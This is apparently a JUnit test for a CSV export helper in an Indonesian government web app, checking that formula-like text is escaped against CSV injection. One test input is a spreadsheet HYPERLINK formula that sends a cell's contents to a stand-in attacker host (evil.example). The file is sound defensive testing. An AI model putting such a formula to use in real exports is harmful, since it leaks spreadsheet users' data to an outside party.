package id.go.pemda.bandwidth.web;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** A typed text never becomes a formula in the spreadsheet (OWASP's rule for CSV injection). */
class TransitionReportCsvTest {

  @Test
  void a_text_starting_like_a_formula_is_written_as_text() {
    assertThat(TransitionReportCsv.text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")"))
        .isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")");
    for (String start : new String[] {"+", "-", "@", "\t", "\r"}) {
      assertThat(TransitionReportCsv.text(start + "1+1")).as(start).isEqualTo("'" + start + "1+1");
    }
  }

  @Test
  void ordinary_text_stays_as_it_is() {
    assertThat(TransitionReportCsv.text("Dinas Kesehatan")).isEqualTo("Dinas Kesehatan");
    assertThat(TransitionReportCsv.text("")).isEmpty();
    assertThat(TransitionReportCsv.text(null)).isEmpty();
  }
}
